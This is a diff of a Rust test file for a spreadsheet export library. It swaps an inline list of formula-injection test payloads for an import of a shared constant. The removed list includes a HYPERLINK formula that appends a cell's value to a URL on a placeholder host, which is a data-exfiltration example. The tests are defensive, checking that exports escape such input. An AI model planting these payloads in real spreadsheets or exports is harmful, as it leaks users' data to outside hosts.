@@ -685,18 +685,8 @@ fn xml_escapes_and_control_characters_round_trip() {
 
 // --- Formula injection: every export escapes what a spreadsheet would evaluate ----------
 
-/// The review's payloads.
-const PAYLOADS: [&str; 9] = [
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    " =1",
-    "'=1",
-    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
-];
+// The review's payloads.
+use fazhi_sheet::FORMULA_EXAMPLES as PAYLOADS;
 
 /// The trigger rule, written out here independently of `is_formula_like`.
 fn triggers(field: &str) -> bool {
